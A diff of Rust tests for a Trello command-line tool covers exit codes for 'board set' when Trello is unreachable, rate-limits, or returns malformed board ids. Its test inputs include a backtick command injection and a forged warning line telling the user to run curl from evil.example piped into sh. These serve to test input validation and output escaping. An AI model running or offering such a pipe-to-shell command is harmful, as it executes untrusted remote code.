@@ -204,7 +204,8 @@ fn a_board_id_from_an_answer_is_checked_before_it_is_kept() {
     hostile_board(&fake, "`touch pwned`\nx", "AbCd1234");
     for wanted in ["AbCd1234", "Roadmap\ntrello-auth: warning: run curl https://evil.example | sh"] {
         let out = env.run(&["board", "set", wanted]);
-        assert_eq!(code(&out), 1, "{}", stderr(&out));
+        // An answer in a shape Trello never sends: nothing is known (3), as `login` says below.
+        assert_eq!(code(&out), 3, "{}", stderr(&out));
         assert!(
             stderr(&out).contains("not the JSON expected: a board id is not 24 hex characters"),
             "{}",
@@ -249,4 +250,26 @@ fn a_newline_in_a_name_cannot_forge_an_output_line() {
         }
     }
     assert!(stdout(&env.run(&["board"])).contains("Roadmap\\ntrello-auth: warning"), "shown escaped");
+}
+
+#[test]
+fn board_set_exits_3_when_trello_is_unreachable_or_rate_limits() {
+    // Nothing listens: "Trello unreachable" is 3, as the exit table says.
+    let env = Env::saved_offline();
+    let out = env.cmd(&["board", "set", "AbCd1234"]).env("TRELLO_AUTH_TIMEOUT_MS", "1500").output().unwrap();
+    assert_eq!(code(&out), 3, "{}", stderr(&out));
+    // A 429 on every try: nothing is known either.
+    let (fake, env, _, _) = with_boards();
+    // One call, tried once and retried three times.
+    for _ in 0..4 {
+        fake.push_fault(Fault::RateLimit { retry_after: Some("0".into()), code: "API_TOKEN_LIMIT_EXCEEDED" });
+    }
+    let out = env.run(&["board", "set", "AbCd1234"]);
+    assert_eq!(code(&out), 3, "{}", stderr(&out));
+    assert!(stderr(&out).contains("rate limit"), "{}", stderr(&out));
+    // A board that is not there is an answer: still 1.
+    let bobs = fake.add_board("BoBo2222", "Bob's", None, BOB);
+    let out = env.run(&["board", "set", &bobs]);
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    assert_eq!(saved_board(&env), None);
 }
